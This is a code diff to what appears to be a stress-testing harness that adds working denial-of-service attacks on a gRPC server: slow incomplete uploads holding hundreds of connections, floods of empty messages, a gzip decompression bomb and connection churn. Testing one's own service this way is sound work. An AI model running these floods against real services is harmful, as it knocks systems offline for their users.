@@ -1,5 +1,6 @@
 """Attacks on the gRPC port and the admin port. Each takes an `Attack`, and returns what it has done."""
 
+import gzip
 import itertools
 import os
 import resource
@@ -19,12 +20,15 @@ from harness.siege.frames import (
     CONTINUATION,
     END_HEADERS,
     END_STREAM,
+    GOAWAY,
     HEALTH,
     INITIAL_WINDOW_SIZE,
     PING,
     PRIORITY,
     REFLECTION,
+    RST_STREAM,
     UNKNOWN,
+    WINDOW_UPDATE,
     call_fields,
     data,
     field,
@@ -32,9 +36,11 @@ from harness.siege.frames import (
     headers,
     integer,
     message,
+    of_stream,
     preface,
     reset,
     settings,
+    settings_ack,
     window,
 )
 
@@ -233,11 +239,91 @@ def incomplete_checks(attack: Attack) -> Done:
     return attack.flood(attack.many(200), lambda: once(preface() + calls))
 
 
+class Window:
+    """What a connection may still send, as HTTP/2's flow control has it."""
+
+    def __init__(self, connection: socket.socket):
+        self._connection, self._received = connection, b""
+        # Of the stream and of the connection.
+        self._left = {0: 65_535, 1: 65_535}
+
+    def send(self, frame: bytes, content: int):
+        while min(self._left.values()) < content:
+            self._read()
+        self._connection.sendall(frame)
+        self._left = {stream: left - content for stream, left in self._left.items()}
+
+    def _read(self):
+        received = self._connection.recv(1 << 16)
+        if not received:
+            raise ConnectionResetError
+        self._received += received
+        while len(self._received) >= 9 and len(self._received) >= 9 + (length := int.from_bytes(self._received[:3])):
+            kind, stream = self._received[3], int.from_bytes(self._received[5:9])
+            if kind in (RST_STREAM, GOAWAY):
+                raise ConnectionResetError
+            if kind == WINDOW_UPDATE:
+                self._left[stream] += int.from_bytes(self._received[9:13])
+            self._received = self._received[9 + length :]
+
+
 def incomplete_lists(attack: Attack) -> Done:
     """Requests of a megabyte, whose last byte does not come."""
-    part = data(1, b"\0" * 16_000)
-    request = headers(1, listing(attack)) + data(1, b"\0\0\x0f\xff\xff") + part * 62
-    return attack.flood(attack.many(200), lambda: once(preface() + request))
+    done, ends, held = Done(), time.monotonic() + attack.seconds, []
+    while time.monotonic() < ends:
+        connection = socket.create_connection(attack.target, 5, source_address=(ATTACKERS_ADDRESS, 0))
+        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        held.append(connection)
+        done.connections += 1
+        try:
+            connection.sendall(preface() + settings_ack() + headers(1, listing(attack)))
+            window = Window(connection)
+            window.send(data(1, b"\0\0\x0f\xff\xff"), 5)
+            for _ in range(65):
+                window.send(data(1, bytes(16_000)), 16_000)
+                done.megabytes += 0.016
+        except OSError:
+            done.refused += 1
+        if len(held) == attack.many(300):
+            held.pop(0).close()
+    return done
+
+
+def many_messages(attack: Attack) -> Done:
+    """Requests that have thousands of messages instead of one."""
+    block = listing(attack)
+    messages = data(1, message(b"") * 3000)
+    return attack.flood(2, lambda: attack.batches(lambda n: headers(n, block) + of_stream(messages, n)))
+
+
+def many_values(attack: Attack) -> Done:
+    """Requests of a kilobyte, which is compressed and has half a million values."""
+    block = call_fields("DescribeTapes", attack.token, {"grpc-encoding": "gzip"})
+    tape_arns = gzip.compress(bytes([2 << 3 | 2, 0]) * 500_000)
+    request = data(1, b"\1" + len(tape_arns).to_bytes(4) + tape_arns, END_STREAM)
+    return attack.flood(2, lambda: attack.batches(lambda n: headers(n, block) + of_stream(request, n)))
+
+
+def new_connections(attack: Attack) -> Done:
+    """As many calls as a connection may have, and then another connection."""
+    block = call_fields("NoSuchMethod", attack.token)
+    first = preface() + b"".join(headers(n, block) + data(n, message(b""), END_STREAM) for n in range(1, 400, 2))
+    done, ends = Done(), time.monotonic() + attack.seconds
+    while time.monotonic() < ends:
+        opened = []
+        for _ in range(attack.many(40)):
+            with suppress(OSError):
+                connection = socket.create_connection(attack.target, 5, source_address=(ATTACKERS_ADDRESS, 0))
+                connection.settimeout(0.01)
+                opened.append(connection)
+                connection.sendall(first)
+                done.connections += 1
+                done.megabytes += len(first) / 1e6
+        for connection in opened:
+            with suppress(OSError):
+                connection.recv(1 << 16)
+            connection.close()
+    return done
 
 
 def refused_streams(attack: Attack) -> Done:
@@ -316,6 +402,9 @@ ATTACKS = {
         health_watches,
         incomplete_checks,
         incomplete_lists,
+        many_messages,
+        many_values,
+        new_connections,
         refused_streams,
         reflection_questions,
         large_messages,
